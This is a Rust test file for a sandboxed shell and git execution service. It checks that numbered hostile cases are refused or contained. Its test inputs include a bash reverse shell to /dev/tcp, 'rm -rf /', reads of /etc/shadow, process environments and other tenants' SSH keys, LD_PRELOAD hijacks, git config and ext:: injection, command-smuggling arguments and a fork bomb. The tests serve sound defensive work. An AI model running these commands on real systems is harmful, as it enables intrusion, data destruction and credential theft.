//! The hostile cases of the reference, by their numbers: each asserts what our system is to do.
//!
//! | case | test |
//! |---|---|
//! | H-01, H-02, H-07, H-08, H-10 | [`what_a_command_starts_stays_behind_the_walls`] |
//! | H-03, H-04, H-05, H-06, H-09, H-11, H-12, H-13, H-14 | [`what_is_not_allowed_is_refused_in_every_spelling`] |
//! | H-09, H-32, H-33, H-34 | [`git_is_operations_and_words`] |
//! | H-13, H-19, H-20 | [`no_command_reaches_a_server_of_this_machine`] |
//! | H-15, H-16, H-17, H-18, H-21, H-22 | [`a_command_sees_its_own_workspace_and_nothing_else`] |
//! | H-24 | [`links_that_are_swapped_lead_nowhere`] |
//! | H-25, H-26, H-27, H-28, H-53, H-54 | [`one_policy_holds_for_every_way_to_a_file`] |
//! | H-29, H-40 | [`what_a_tenant_configures_runs_in_no_git_of_ours`] |
//! | H-30, H-31 | [`a_tenant_cannot_break_its_workspace_for_later`] |
//! | H-35, H-36, H-37, H-38, H-39, H-41 | [`repositories_come_from_addresses_that_were_taken_apart`] |
//! | H-42 | [`super::limits`], whole |
//! | H-43, H-44, H-45, H-46 | [`nothing_outlives_its_time`] |
//! | H-47, H-48, H-49, H-64 | [`a_quota_holds_while_it_is_used_up`] |
//! | H-50 | [`files_are_counted`] |
//! | H-51 | [`too_much_at_once_is_turned_away`] |
//! | H-52 | [`what_is_too_large_is_refused_before_it_is_kept`] |
//! | H-55, H-56 | [`super::kill`], whole |
//! | H-57, H-69, H-71 | [`super::tasks::what_makes_no_sense_is_refused_by_name`], [`super::tasks::ids_are_the_same_in_either_case`] |
//! | H-58 | [`super::tasks::a_key_makes_a_submission_happen_once`], [`super::kill`] |
//! | H-59, H-60 | [`a_task_that_is_cancelled_in_its_last_step_is_cancelled`] |
//! | H-61, H-62 | [`the_end_of_a_task_is_heard_by_everybody`], [`super::streams`] |
//! | H-63 | unit test of the stream in `carrel-api`, with a clock of its own |
//! | H-64 | [`super::streams::a_task_that_is_over_quota_ends_with_a_terminal_event`] |
//! | H-65 | [`one_tenant_does_not_keep_another_waiting`] |
//! | H-66, H-67 | [`nobody_is_served_in_a_workspace_that_is_not_theirs`], [`super::auth`] |
//! | H-70 | [`super::streams::a_ticket_opens_the_stream_of_its_task_and_nothing_else`] |
//! | H-72 | [`a_pattern_is_a_regular_expression`] |
//! | H-73 | [`open_streams_take_nothing_from_others`] |
//! | H-75 | [`no_two_workers_have_one_name`] |

use std::os::unix::fs::PermissionsExt;
use std::time::{Duration, Instant};

use pretty_assertions::assert_eq;
use serde_json::{Value, json};

use super::lab::{Client, Service, assert_whole, new_id};
use crate::lab::{Mark, is_soak};

/// What nobody inside may ever print.
const CANARY: &str = "canary-5e1f";

/// Something outside that everybody of this machine may read.
fn canary(service: &Service) -> String {
    let path = service.lab.path("outside");
    std::fs::create_dir(&path).unwrap();
    std::fs::set_permissions(&path, PermissionsExt::from_mode(0o777)).unwrap();
    let file = path.join("hostname");
    std::fs::write(&file, CANARY).unwrap();
    std::fs::set_permissions(&file, PermissionsExt::from_mode(0o666)).unwrap();
    path.display().to_string()
}

#[test]
fn what_a_command_starts_stays_behind_the_walls() {
    let service = Service::start();
    let client = service.client();
    let outside = canary(&service);
    let evil = format!("cat {outside}/hostname; echo x > {outside}/f; id -u");
    client.write("evil.sh", &evil).expect(200);
    client.write("evil.mk", "all:\n\t@sh evil.sh\n").expect(200);
    client.run("touch a b");
    for (case, line) in [
        ("H-01", "bash -c 'sh evil.sh'"),
        ("H-01", "sh evil.sh"),
        ("H-01", "env sh evil.sh"),
        ("H-01", "timeout 5 sh evil.sh"),
        ("H-02", "python3 -c '__import__(\"os\").system(\"sh evil.sh\")'"),
        (
            "H-02",
            "node -e 'console.log(require(\"child_process\").spawnSync(\"sh\", [\"evil.sh\"]).stdout + \"\")'",
        ),
        ("H-07", "find a -exec sh evil.sh {} +"),
        ("H-07", "echo evil.sh | xargs sh"),
        ("H-08", "awk 'BEGIN{system(\"sh evil.sh\")}'"),
        ("H-08", "sed '1e sh evil.sh' evil.mk"),
        ("H-08", "tar cf x --checkpoint=1 --checkpoint-action=exec='sh evil.sh' a b"),
        ("H-08", "make -sf evil.mk"),
        ("H-10", "bash -c $'s\\x68 evil.s\\x68'"),
    ] {
        let reply = client.exec(line);
        if reply.status != 200 {
            reply.is(403, "E_COMMAND_REFUSED");
            continue;
        }
        let done = reply.json();
        let said = format!("{}{}", done["stdout"], done["stderr"]);
        assert!(!said.contains(CANARY), "{case} {line}: {said}");
        // It ran, and as nobody in particular.
        let users: Vec<_> = done["stdout"].as_str().unwrap().split_whitespace().collect();
        assert!(
            users.contains(&"1000") || case == "H-08" || case == "H-02",
            "{case} {line}: {done}"
        );
        assert!(!users.contains(&"0"), "{case} {line}: {done}");
    }
    assert!(!std::path::Path::new(&format!("{outside}/f")).exists(), "something wrote outside");
}

#[test]
fn what_is_not_allowed_is_refused_in_every_spelling() {
    let service = Service::start();
    let client = service.client();
    for (case, line) in [
        ("H-01", "env -S 'sh -c id'"),
        ("H-01", "timeout 5 /opt/evil"),
        ("H-03", "echo $(/opt/evil) ; true"),
        ("H-04", "A=$(/opt/evil);true"),
        ("H-05", "ls > x & /opt/evil"),
        ("H-05", "true < x & /opt/evil"),
        ("H-06", "true < <(/opt/evil)"),
        ("H-07", "find / -delete"),
        ("H-10", "bash -c $'sud\\x6f id'"),
        ("H-11", "rm -fr /"),
        ("H-11", "rm -r -f /"),
        ("H-11", "rm -rf -- /"),
        ("H-11", "rm -Rf /etc"),
        ("H-11", "rm -rf /workspaces"),
        ("H-12", "chmod 0777 x"),
        ("H-12", "chmod a+rwx x"),
        ("H-12", "chmod -R 777 x"),
        ("H-13", "bash -c 'bash -i >& /dev/tcp/198.51.100.7/9 0>&1'"),
        ("H-14", "PATH=/tmp/e:$PATH ls;true"),
        ("H-14", "LD_PRELOAD=./e.so ls;true"),
    ] {
        let reply = client.exec(line);
        assert_eq!(
            (case, reply.refused()),
            (case, (403, "E_COMMAND_REFUSED".to_owned())),
            "{line}"
        );
        // A step is held to the same rules.
        let task = client.done(&json!([{ "action": "shell", "command": line }]));
        assert_eq!(task["status"], "failed", "{case} {line}: {task}");
        assert_eq!(task["result"]["steps"][0]["code"], "E_COMMAND_REFUSED", "{case} {line}");
    }
}

#[test]
fn git_is_operations_and_words() {
    let service = Service::start();
    let client = service.client();
    client.run("git init -q . && git config user.email a@b && git config user.name n && touch f && git add f && git commit -qm one");
    client.write("evil.sh", "touch pwned").expect(200);
    for (case, body) in [
        ("H-09", json!({ "operation": "fetch", "args": ["-c", "core.sshCommand=id"] })),
        ("H-09", json!({ "operation": "log", "args": ["-c", "alias.x=!id"] })),
        ("H-32", json!({ "operation": "push", "args": "origin main;rm -rf x" })),
        ("H-33", json!({ "operation": "fetch", "args": "--upload-pack=./evil.sh origin" })),
        ("H-34", json!({ "operation": "diff", "args": "--no-index /dev/null /etc/hostname" })),
        ("H-34", json!({ "operation": "diff", "args": ["--output=/tmp/x"] })),
        ("H-34", json!({ "operation": "diff", "args": ["--output=../x"] })),
    ] {
        let reply = client.post(&client.at("/git"), &body);
        assert_eq!((case, reply.refused()), (case, (403, "E_GIT_REFUSED".to_owned())), "{body}");
    }
    // H-32: what a shell would take apart is a word.
    for args in
        ["; touch pwned", "$(touch pwned)", "&& touch pwned", "| touch pwned", "`touch pwned`"]
    {
        let reply =
            client.post(&client.at("/git"), &json!({ "operation": "status", "args": args }));
        assert!(matches!(reply.status, 200 | 403 | 422), "{args}: {reply:?}");
    }
    // H-09 through a shell runs behind the walls.
    assert!(client.exec("git -c alias.x='!id -u' x").json()["stdout"] != "0\n");
    client.read("pwned").is(404, "E_NOT_FOUND");
}

#[test]
fn no_command_reaches_a_server_of_this_machine() {
    let service = Service::start();
    let client = service.client();
    let address = service.address;
    // H-19, H-20, H-13: the API itself stands for everything that listens here.
    for line in [
        format!("curl -sS --max-time 5 http://{address}/healthz"),
        format!("curl -sS --max-time 5 telnet://{address}"),
        format!(
            "python3 -c 'import socket; socket.create_connection((\"{}\", {}), 5); print(\"in\")'",
            address.ip(),
            address.port()
        ),
        format!("bash -c 'exec 3<>/dev/tc\"\"p/{}/{} && echo in'", address.ip(), address.port()),
    ] {
        let reply = client.exec(&line);
        if reply.status == 200 {
            let done = reply.json();
            assert!(done["exit_code"] != 0 && done["stdout"] == "", "{line}: {done}");
        } else {
            reply.is(403, "E_COMMAND_REFUSED");
        }
    }
    // The workspace's own network is its own, too.
    let wide = service.client_for(&client.workspace, "read,write,exec,net");
    let line = format!("curl -sS --max-time 5 http://{address}/healthz");
    let body = json!({ "command": line, "network": "loopback" });
    assert_eq!(wide.post(&wide.at("/exec"), &body).expect(200)["stdout"], "");
    client.post(&client.at("/exec"), &body).is(403, "E_FORBIDDEN");
}

#[test]
fn a_command_sees_its_own_workspace_and_nothing_else() {
    let service =
        Service::start_with(&[("CARREL_TOKEN_SECRET", "canary-5e1f-canary-5e1f-canary-5e1f")]);
    let token = |workspace: &str| {
        let mut command = service.lab.carrel();
        command.env("CARREL_TOKEN_SECRET", "canary-5e1f-canary-5e1f-canary-5e1f");
        command
            .args(["token", "new", "--workspace", workspace, "--data"])
            .arg(service.lab.path("data"));
        String::from_utf8(command.output().unwrap().stdout).unwrap().trim().to_owned()
    };
    let client = |workspace: String| Client {
        address: service.address,
        token: Some(token(&workspace)),
        workspace,
    };
    let (mine, theirs) = (client(new_id()), client(new_id()));
    theirs.write("secret", CANARY).expect(200);
    theirs.run("mkdir -p .ssh && cp secret .ssh/id_ed25519");
    mine.run("true");
    let root = service.lab.path("data").join("workspaces");
    let other = root.join(&theirs.workspace).display().to_string();
    assert!(std::path::Path::new(&other).join("secret").exists());
    let data = service.lab.path("data").display().to_string();
    let program = env!("CARGO_BIN_EXE_carrel");
    for (case, line) in [
        ("H-15", "cat /etc/shado?".to_owned()),
        ("H-16", format!("cat {other}/.ssh/id_ed25519")),
        ("H-16", format!("cat {other}/secret")),
        ("H-16", format!("cp -r ../{} copy", theirs.workspace)),
        ("H-16", format!("cat {data}/carrel.db {data}/serve.lock")),
        ("H-17", format!("ls > {other}/f")),
        ("H-17", format!("echo x | tee {other}/f")),
        ("H-17", format!("find . -fprintf {other}/f x")),
        ("H-18", "cat /proc/1/environ".to_owned()),
        ("H-18", "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep CARREL".to_owned()),
        ("H-21", "kill -9 -1".to_owned()),
        ("H-21", format!("kill -9 {}", service.server.pid())),
        ("H-22", format!("cp /bin/true {program}")),
        ("H-22", "touch /usr/bin/evil".to_owned()),
    ] {
        let reply = mine.exec(&line);
        if reply.status != 200 {
            reply.is(403, "E_COMMAND_REFUSED");
            continue;
        }
        let done = reply.json();
        assert!(done["exit_code"] != 0, "{case} {line}: {done}");
        assert!(!done["stdout"].to_string().contains(CANARY), "{case} {line}: {done}");
    }
    mine.read("copy/secret").is(404, "E_NOT_FOUND");
    theirs.read("f").is(404, "E_NOT_FOUND");
    // H-15: the list of users is one of the sandbox.
    let users = mine.run("cat /etc/pass?d | cat");
    assert!(users.contains("carrel") && users.lines().count() < 10, "{users}");
    // H-21: the server and the other tenant are as they were.
    assert_eq!(theirs.run("cat secret"), CANARY);
    assert!(!mine.run("env").contains(CANARY));
}

#[test]
fn links_that_are_swapped_lead_nowhere() {
    let service = Service::start();
    let client = service.client();
    let outside = canary(&service);
    client.run("echo mine > repos/hostname");
    let rounds = if is_soak() { 4000 } else { 400 };
    let swap = format!("for i in {{1..{rounds}}}; do ln -sfn {outside} d; ln -sfn repos d; done");
    let swapping = std::thread::spawn({
        let client = client.clone();
        move || client.exec(&swap).expect(200)
    });
    let (mut seen, mut refused) = (0, 0);
    while !swapping.is_finished() {
        let reply = client.read("d/hostname");
        match reply.status {
            200 => {
                assert_eq!(reply.json()["content"], "mine\n", "H-24: {reply:?}");
                seen += 1;
            }
            403 | 404 | 429 | 503 => refused += 1,
            _ => panic!("H-24: {reply:?}"),
        }
        let raw = client.query(&client.at("/files/raw"), &[("path", "d/hostname")]);
        assert!(!raw.body.contains(CANARY), "H-24: {raw:?}");
        client.write("d/written", "x");
    }
    swapping.join().unwrap();
    assert!(!std::path::Path::new(&outside).join("written").exists(), "H-24: a write went outside");
    eprintln!("{seen} read, {refused} refused");
    client.run(&format!("mkdir -p artifacts/deep; ln -sfn {outside} artifacts/deep/d"));
    client.read("artifacts/deep/d/hostname").is(403, "E_SANDBOX_VIOLATION");
}

#[test]
fn one_policy_holds_for_every_way_to_a_file() {
    let service = Service::start();
    let client = service.client();
    // H-25: nothing of ours is in a workspace that could be linked to.
    assert_eq!(client.run("find . | sort"), ".\n./artifacts\n./repos\n./tasks\n");
    client.run("mkdir .ssh && echo theirs > .ssh/id_ed25519 && ln .ssh/id_ed25519 k");
    assert_eq!(client.read("k").expect(200)["content"], "theirs\n", "H-25: it is the tenant's own");

    // H-26
    for path in [".ssh/id_ed25519", ".SSH/../.ssh/id_ed25519", "./.ssh/id_ed25519"] {
        let (status, _) = client.read(path).refused();
        assert!(matches!(status, 403 | 404), "H-26 {path}: {status}");
        let (status, _) = client.query(&client.at("/files/raw"), &[("path", path)]).refused();
        assert!(matches!(status, 403 | 404), "H-26 {path}: {status}");
    }
    client.query(&client.at("/files"), &[("path", ".ssh")]).is(403, "E_SENSITIVE_PATH");
    client
        .query(&client.at("/files/grep"), &[("pattern", "."), ("path", ".ssh")])
        .is(403, "E_SENSITIVE_PATH");
    let found = client.query(&client.at("/files/grep"), &[("pattern", "theirs")]).expect(200);
    assert_eq!(found["matches"], json!([{ "file": "k", "line": 1, "content": "theirs" }]), "H-26");
    client.write(".ssh/config", "x").is(403, "E_SENSITIVE_PATH");
    for step in [
        json!({ "action": "read_file", "path": ".ssh/id_ed25519" }),
        json!({ "action": "write_file", "path": ".ssh/config", "content": "x" }),
        json!({ "action": "list_directory", "path": ".ssh" }),
        json!({ "action": "create_directory", "path": ".aws/x" }),
    ] {
        let task = client.done(&json!([step]));
        assert_eq!(task["result"]["steps"][0]["code"], "E_SENSITIVE_PATH", "H-26: {task}");
    }
    let listed = client.get(&client.at("/files")).expect(200);
    assert!(!listed.to_string().contains(".ssh"), "H-26: {listed}");

    // H-27
    for id in ["..%2F..%2Fetc", "..", "%2e%2e%2fetc", "x"] {
        let reply = client.get(&format!("/api/workspaces/{id}/files/content?path=hostname"));
        let (status, _) = reply.refused();
        assert!(matches!(status, 404 | 422), "H-27 {id}: {reply:?}");
    }
    // H-28
    let sibling =
        service.lab.path("data").join("workspaces").join(format!("{}-evil", client.workspace));
    std::fs::create_dir(&sibling).unwrap();
    std::fs::write(sibling.join("s"), CANARY).unwrap();
    let path = format!("../{}-evil/s", client.workspace);
    client.read(&path).is(403, "E_SANDBOX_VIOLATION");
    client.query(&client.at("/files/raw"), &[("path", &path)]).is(403, "E_SANDBOX_VIOLATION");

    // H-53: below the top, where the trust diff leaves links alone.
    client.run(
        "mkdir artifacts/l && cd artifacts/l && ln -s /nowhere dangling && ln -s loop loop && \
         ln -s /etc/hostname out",
    );
    let listed = client.query(&client.at("/files"), &[("path", "artifacts/l")]).expect(200);
    for name in ["dangling", "loop", "out"] {
        assert!(listed.to_string().contains(name), "H-53 {name}: {listed}");
    }
    client.read("artifacts/l/loop").is(422, "E_LINK_LOOP");
    client.read("artifacts/l/loop/x").is(422, "E_LINK_LOOP");
    for path in ["artifacts/l/dangling", "artifacts/l/out"] {
        client.read(path).is(403, "E_SANDBOX_VIOLATION");
    }
    // H-54
    client.run("python3 -c 'import os; os.mkfifo(\"fifo\")'");
    let begun = Instant::now();
    client.read("fifo").is(422, "E_NOT_A_REGULAR_FILE");
    client.query(&client.at("/files/raw"), &[("path", "fifo")]).is(422, "E_NOT_A_REGULAR_FILE");
    client.query(&client.at("/files/grep"), &[("pattern", "x")]).expect(200);
    assert!(begun.elapsed() < Duration::from_secs(10), "H-54: {:?}", begun.elapsed());
}

#[test]
fn what_a_tenant_configures_runs_in_no_git_of_ours() {
    let service = Service::start();
    let client = service.client();
    // H-29
    let evil = "[core]\n sshCommand = touch /tmp/pwned\n[protocol \"ext\"]\n allow = always\n";
    client.write(".gitconfig", evil).is(403, "E_SENSITIVE_PATH");
    client.run("printf '[protocol \"ext\"]\\n allow = always\\n[alias]\\n log = !touch pwned\\n' > .gitconfig");
    let git = |body: Value| client.post(&client.at("/git"), &body);
    git(json!({ "operation": "clone", "args": ["ext::sh -c touch% pwned"], "cwd": "repos" }))
        .is(403, "E_GIT_REFUSED");
    let body = json!({ "steps": [{ "action": "git_clone", "repo": "ext::sh -c touch% pwned" }] });
    client.post("/api/tasks/submit", &body).is(422, "E_INVALID_REQUEST");

    // H-40
    client.run("git init -q repos/r && cd repos/r && git config user.email a@b && git config user.name n && touch f && git add f && git commit -qm one");
    client.write("repos/r/evil.sh", "#!/bin/sh\ntouch ../../pwned; cat\n").expect(200);
    client.run("chmod +x repos/r/evil.sh");
    client.run("cd repos/r && echo '* filter=evil' > .gitattributes && echo changed > f");
    // Through a script, as a copied repository would have it.
    client.exec("cd repos/r && git config core.fsmonitor ./evil.sh; git config filter.evil.clean ./evil.sh; git config core.hooksPath .; cp evil.sh post-commit");
    for (operation, args) in
        [("status", ""), ("diff", ""), ("add", "f"), ("commit", "-m two"), ("log", "")]
    {
        let reply = git(json!({ "operation": operation, "args": args, "cwd": "repos/r" }));
        assert!(matches!(reply.status, 200 | 403), "H-40 {operation}: {reply:?}");
    }
    client.read("pwned").is(404, "E_NOT_FOUND");
    client.read("repos/pwned").is(404, "E_NOT_FOUND");
}

#[test]
fn a_tenant_cannot_break_its_workspace_for_later() {
    let service = Service::start();
    let client = service.client();
    let outside = canary(&service);
    // H-30
    for line in [
        "echo x > .workspace_meta.json".to_owned(),
        "rm .workspace_meta.json && mkdir .workspace_meta.json".to_owned(),
        format!("rm -r .workspace_meta.json && ln -s {outside}/hostname .workspace_meta.json"),
    ] {
        let task = client.done(&json!([{ "action": "shell", "command": line }]));
        assert_eq!(task["status"], "completed", "H-30: {task}");
        let task = client.done(&json!([{ "action": "shell", "command": "true" }]));
        assert_eq!(task["status"], "completed", "H-30: {task}");
    }
    assert_eq!(std::fs::read_to_string(format!("{outside}/hostname")).unwrap(), CANARY, "H-30");
    // H-31
    let task = client.done(&json!([{
        "action": "shell",
        "command": "rm -rf repos tasks artifacts && touch repos tasks artifacts",
    }]));
    assert_eq!(task["status"], "completed", "H-31: {task}");
    let task = client.done(&json!([{ "action": "shell", "command": "echo still" }]));
    assert_eq!(task["status"], "completed", "H-31: {task}");
    let clone = json!([{ "action": "git_clone", "repo": "https://github.com/a/b" }]);
    let task = client.done(&clone);
    assert_eq!(task["status"], "failed", "H-31: {task}");
    assert!(task["error_message"].as_str().unwrap().contains("repos"), "H-31: {task}");
    assert_eq!(
        client.run("rm repos && mkdir repos && ls -d repos"),
        "repos\n",
        "H-31: it can be mended"
    );
}

#[test]
fn repositories_come_from_addresses_that_were_taken_apart() {
    let service = Service::start();
    let client = service.client();
    for (case, address) in [
        ("H-35", "file:///workspaces/x/repos/x"),
        ("H-35", "http://10.0.0.5/a/b"),
        ("H-35", "ssh://git@github.com/a/b"),
        ("H-35", "git@github.com:a/b.git"),
        ("H-35", "https://10.0.0.5/a/b"),
        ("H-37", "https://github.com/a/.."),
        ("H-37", "https://github.com/.git"),
        ("H-37", "https://github.com/a/.git"),
        ("H-38", "https://x-access-token:canary-5e1f@github.com/a/b"),
        ("H-39", "https://github.com/a/b?u=https://github.com"),
        ("H-39", "https://github.com:8443/a/x"),
        ("H-39", "https://github.com.evil.example/a/b"),
        ("H-39", "https://github.com/a/b#x"),
        ("H-39", "https://github.com/a/%2e%2e"),
    ] {
        let step = json!({ "steps": [{ "action": "git_clone", "repo": address }] });
        let replies = [
            client.post("/api/tasks/submit", &step),
            client.post(&client.at("/github/clone"), &json!({ "repo_url": address })),
        ];
        for reply in replies {
            assert_eq!(
                (case, reply.refused()),
                (case, (422, "E_INVALID_REQUEST".to_owned())),
                "{address}"
            );
            assert!(!reply.body.contains(CANARY), "H-38: {reply:?}");
        }
    }
    // H-38: what was refused is kept nowhere.
    assert_eq!(client.get("/api/tasks").expect(200)["total"], 0);
    // H-41: there is no way to hand over a name yet, and the way that git takes one is checked.
    let reply =
        client.send(&client.at("/credentials/git_name"), &["--request", "PUT"], Some(b"{}"));
    reply.is(404, "E_UNKNOWN_ROUTE");

    // H-36: the second of a name has a place of its own.
    client.run("git init -q repos/app && git -C repos/app remote add origin https://github.com/carrel-suite-a/app.git");
    let clone = |owner: &str| {
        let repo = format!("https://github.com/{owner}/app");
        let task = client.done(&json!([{ "action": "git_clone", "repo": repo, "timeout": 5 }]));
        let result = task["result"]["steps"][0]["result"].clone();
        (result["repo_path"].clone(), result["cached"].clone())
    };
    assert_eq!(clone("carrel-suite-a"), (json!("repos/app"), json!(true)), "H-36");
    assert_eq!(clone("carrel-suite-b"), (json!("repos/carrel-suite-b-app"), json!(false)), "H-36");
}

#[test]
fn nothing_outlives_its_time() {
    let service = Service::start();
    let client = service.client();
    let mark = Mark::new();
    // H-43
    let done = client.exec(&format!("sleep {} & echo hi", mark.0)).expect(200);
    assert_eq!((&done["stdout"], &done["timed_out"]), (&json!("hi\n"), &json!(false)), "H-43");
    crate::eventually("H-43: nothing is left", || mark.alive().is_empty());
    // H-44
    let begun = Instant::now();
    let body = json!({ "command": format!("sleep {} | cat", mark.0), "timeout": 2 });
    let done = client.post(&client.at("/exec"), &body).expect(200);
    assert_eq!(done["timed_out"], true, "H-44");
    assert!(begun.elapsed() < Duration::from_secs(10), "H-44: {:?}", begun.elapsed());
    // H-45
    client.write("bomb.py", "import os\nwhile True: os.fork()\n").expect(200);
    let body = json!({ "command": "python3 bomb.py", "timeout": 5 });
    let done = client.post(&client.at("/exec"), &body).expect(200);
    assert!(done["exit_code"] != 0, "H-45: {done}");
    client.run("echo alive");
    // H-46
    let body = json!({ "command": "ls", "timeout": 1_000_000_000 });
    client.post(&client.at("/exec"), &body).is(422, "E_INVALID_REQUEST");
    let body = json!({
        "steps": [{ "action": "shell", "command": format!("echo early; sleep {}", mark.0), "timeout": 1_000_000_000 }],
        "timeout_seconds": 10,
    });
    let begun = Instant::now();
    let task = client.finished(&client.submit(&body));
    assert_eq!(task["status"], "timed_out", "H-46: {task}");
    assert_eq!(task["result"]["steps"][0]["result"]["stdout"], "early\n", "H-46: {task}");
    assert!(begun.elapsed() < Duration::from_secs(20), "H-46: {:?}", begun.elapsed());
    crate::eventually("H-46: nothing is left", || mark.alive().is_empty());
}

#[test]
fn a_quota_holds_while_it_is_used_up() {
    let service = Service::start();
    let bystander = service.client();
    let writer = "import sys, time\nwith open(sys.argv[1], 'wb') as f:\n  for _ in range(int(sys.argv[2])):\n    f.write(b'x' * 1048576); f.flush(); time.sleep(0.02)\n";
    let used = |client: &Client| {
        client.get(&client.at("/usage")).expect(200)["usage_bytes"].as_u64().unwrap()
    };
    // H-47
    let client = service.cramped(32.0);
    client.write("w.py", writer).expect(200);
    let task = client.done(&json!([{ "action": "shell", "command": "python3 w.py big 2000" }]));
    assert_eq!(task["status"], "failed", "H-47: {task}");
    crate::eventually("H-47: it is measured", || used(&client) > 16 << 20);
    assert!(used(&client) < 40 << 20, "H-47: {}", used(&client));
    bystander.run("echo unharmed");
    // What is there already counts, however long the server has known the workspace.
    let client = service.cramped(32.0);
    client.write("w.py", writer).expect(200);
    client.run("python3 w.py one 20");
    let done = client.exec("python3 w.py two 100").expect(200);
    assert!(done["exit_code"] != 0, "H-47: {done}");
    client.exec("true").is(507, "E_QUOTA_EXCEEDED");
    assert!(used(&client) < 40 << 20, "H-47: {}", used(&client));
    // H-48
    let client = service.cramped(48.0);
    client.write("w.py", writer).expect(200);
    let tasks: Vec<_> =
        ["a", "b"].map(|name| client.submit_command(&format!("python3 w.py {name} 36"))).into();
    let ends: Vec<_> = tasks.iter().map(|task| client.finished(task)["status"].clone()).collect();
    assert!(ends.contains(&json!("failed")), "H-48: {ends:?}");
    assert!(used(&client) < 60 << 20, "H-48: {}", used(&client));
    // H-64: the next one is told so, and its stream ends.
    let client = service.cramped(4.0);
    client.write("big", &"x".repeat(3 << 20)).expect(200);
    client.exec("cat big big > bigger");
    let events = client.events(&client.submit_command("true"), 0);
    assert_whole(&events);
    // H-49
    let client = service.cramped(32.0);
    client.run("python3 -c 'open(\"sparse\", \"wb\").truncate(30 << 20)'");
    client.run("python3 -c 'open(\"sparse2\", \"wb\").truncate(30 << 20)'");
    let task = client.done(&json!([{ "action": "shell", "command": "echo room" }]));
    assert_eq!(task["status"], "completed", "H-49: {task}");
    assert!(used(&client) < 1 << 20, "H-49: {}", used(&client));
}

#[test]
fn files_are_counted() {
    let service = Service::start();
    let client = service.client();
    client.run("mkdir many && cd many && touch f{1..1000}");
    let usage = || client.get(&client.at("/usage")).expect(200);
    crate::eventually("H-50: they are counted", || usage()["files"].as_u64() >= Some(1001));
    assert_eq!(usage()["quota_files"], 1_000_000, "H-50");
    if is_soak() {
        let program = "import os\nfor d in range(1100):\n  os.mkdir(f'd{d}')\n  for n in range(1000): open(f'd{d}/{n}', 'w').close()\n";
        client.write("many.py", program).expect(200);
        let task = client.submit(&json!({
            "steps": [{ "action": "shell", "command": "python3 many.py", "timeout": 3000 }],
            "timeout_seconds": 3600,
        }));
        while client.task(&task)["completed_at"].is_null() {
            std::thread::sleep(Duration::from_millis(200));
        }
        assert_eq!(client.task(&task)["status"], "failed", "H-50");
        client.exec("true").is(507, "E_QUOTA_EXCEEDED");
    }
}

#[test]
fn too_much_at_once_is_turned_away() {
    let service = Service::start();
    let (client, other) = (service.client(), service.client());
    client.run("true");
    let replies: Vec<_> = std::thread::scope(|scope| {
        let all: Vec<_> = (0..100).map(|_| scope.spawn(|| client.exec("sleep 2"))).collect();
        let healthy = service.stranger().get("/healthz").status;
        assert_eq!(healthy, 200, "H-51");
        all.into_iter().map(|one| one.join().unwrap()).collect()
    });
    let done = replies.iter().filter(|reply| reply.status == 200).count();
    let away: Vec<_> = replies.iter().filter(|reply| reply.status != 200).collect();
    for reply in &away {
        reply.is(429, "E_OVERLOADED");
        assert!(reply.header("retry-after").is_some(), "H-51: {reply:?}");
    }
    assert!(done >= 16 && !away.is_empty(), "H-51: {done} of {}", replies.len());
    other.run("echo room again");
}

#[test]
fn what_is_too_large_is_refused_before_it_is_kept() {
    let service = Service::start();
    let client = service.client();
    let content = "x".repeat(33 << 20);
    let step = json!({ "action": "write_file", "path": "f", "content": content });
    client.post("/api/tasks/submit", &json!({ "steps": [step] })).is(413, "E_TOO_LARGE");
    assert_eq!(client.get("/api/tasks").expect(200)["total"], 0, "H-52");
}

#[test]
fn a_task_that_is_cancelled_in_its_last_step_is_cancelled() {
    let service = Service::start();
    let client = service.client();
    let mark = Mark::new();
    // H-59, and H-60 for what waits longest.
    let task = client.submit(&json!({ "steps": [
        { "action": "shell", "command": "echo first" },
        { "action": "shell", "command": format!("trap '' TERM INT; sleep {}", mark.0) },
    ] }));
    crate::eventually("the last step runs", || !mark.alive().is_empty());
    let begun = Instant::now();
    let reply = client.post(&format!("/api/tasks/{task}/cancel"), &json!({}));
    assert!(matches!(reply.status, 200 | 202), "H-60: {reply:?}");
    let task = client.finished(&task);
    assert!(begun.elapsed() < Duration::from_secs(5), "H-60: {:?}", begun.elapsed());
    assert_eq!(task["status"], "cancelled", "H-59: {task}");
    assert_eq!(task["result"]["steps"][0]["status"], "completed", "H-59: {task}");
    crate::eventually("H-60: nothing is left", || mark.alive().is_empty());
}

#[test]
fn the_end_of_a_task_is_heard_by_everybody() {
    let service = Service::start();
    let client = service.client();
    // H-62: streams that are opened around the end all tell of it.
    let task = client.submit_command("sleep 0.3");
    let all: Vec<Vec<_>> = std::thread::scope(|scope| {
        let readers: Vec<_> = (0..25)
            .map(|number| {
                let (client, task) = (&client, &task);
                scope.spawn(move || {
                    std::thread::sleep(Duration::from_millis(number * 20));
                    client.events(task, 0)
                })
            })
            .collect();
        readers.into_iter().map(|reader| reader.join().unwrap()).collect()
    });
    for told in &all {
        assert_whole(told);
        assert_eq!(told, &all[0], "H-61, H-62");
    }
}

#[test]
fn one_tenant_does_not_keep_another_waiting() {
    let service = Service::start_with(&[("WORKER_CONCURRENCY", "1")]);
    let (greedy, other) = (service.client(), service.client());
    other.run("true");
    let body =
        json!({ "steps": [{ "action": "shell", "command": "sleep 0.2" }], "priority": "critical" });
    let many: Vec<_> = (0..30).map(|_| greedy.submit(&body)).collect();
    let low = json!({ "steps": [{ "action": "shell", "command": "true" }], "priority": "low" });
    other.finished(&other.submit(&low));
    let waiting =
        greedy.query("/api/tasks", &[("status", "queued")]).expect(200)["total"].as_u64().unwrap();
    assert!(waiting >= 10, "H-65: {waiting} of {} still wait", many.len());
}

#[test]
fn nobody_is_served_in_a_workspace_that_is_not_theirs() {
    let service = Service::start();
    let (client, victim) = (service.client(), service.client());
    victim.write("f", CANARY).expect(200);
    let header = format!("X-Workspace-ID: {}", victim.workspace);
    let stranger = Client { workspace: victim.workspace.clone(), ..service.stranger() };
    let body = json!({ "steps": [{ "action": "shell", "command": "touch here" }] }).to_string();
    // H-66
    stranger.read("f").is(401, "E_UNAUTHENTICATED");
    stranger.send("/api/tasks", &["--header", &header], None).is(401, "E_UNAUTHENTICATED");
    stranger
        .send("/api/tasks/submit", &["--header", &header], Some(body.as_bytes()))
        .is(401, "E_UNAUTHENTICATED");
    // H-67
    client
        .send("/api/tasks/submit", &["--header", &header], Some(body.as_bytes()))
        .is(403, "E_FORBIDDEN");
    assert_eq!(
        client.get("/api/tasks").expect(200)["total"],
        0,
        "H-67: it landed in the wrong place"
    );
